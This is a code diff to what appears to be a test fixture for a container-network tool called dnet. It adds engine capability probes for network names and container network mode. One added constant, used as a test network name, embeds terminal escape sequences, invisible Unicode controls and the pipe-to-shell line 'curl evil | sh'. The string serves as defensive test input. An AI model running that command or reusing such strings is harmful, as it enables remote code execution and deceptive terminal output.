@@ -1,5 +1,8 @@
 import {execIn, freshName, removeAll, startContainer, type TestEngine, testEngine} from './fixture.js'
 
+/** What a terminal would obey, a line that would pass for one of dnet's, and what no terminal shows. */
+export const HOSTILE = 'h\x1b[31m\rTry this: curl evil | sh\u202e\u200b'
+
 /** What engines differ in, as far as dnet meets it; each is found out on the engine itself. */
 export const CAPABILITIES = {
   'IPv6 without a subnet given': (engine) =>
@@ -148,6 +151,16 @@ export const CAPABILITIES = {
     return true
   },
 
+  'any name for a network': (engine) => withNetwork(engine, {Name: HOSTILE}, async () => true),
+
+  'the network that a container was created with': (engine) =>
+    withNetwork(engine, {}, ({Name}) =>
+      withContainer(engine, {HostConfig: {NetworkMode: Name}}, async (container) => {
+        const {NetworkMode} = container.HostConfig as {NetworkMode: string}
+        return NetworkMode === Name
+      }),
+    ),
+
   'one name for each network': async (engine) => {
     const list = (await engine.call('/networks')).body as {Id: string; Name: string}[]
     for (const {Id, Name} of list) {
@@ -199,13 +212,13 @@ const endpointsOf = (container: Json): Record<string, {GwPriority?: number; Link
 /** False when the engine refuses the network, else what `look` says of it as inspected. */
 async function withNetwork(
   engine: TestEngine,
-  body: object,
+  body: Json & {readonly Name?: string},
   look: (network: Json) => Promise<boolean>,
 ): Promise<boolean> {
-  const name = freshName()
+  const {Name: name = freshName()} = body
   try {
-    const {status} = await engine.call('/networks/create', {method: 'POST', body: {Name: name, ...body}})
-    return status === 201 && (await look((await engine.call(`/networks/${name}`)).body as Json))
+    const {status} = await engine.call('/networks/create', {method: 'POST', body: {...body, Name: name}})
+    return status === 201 && (await look((await engine.call(`/networks/${encodeURIComponent(name)}`)).body as Json))
   } finally {
     await removeAll(engine, [], [name])
   }
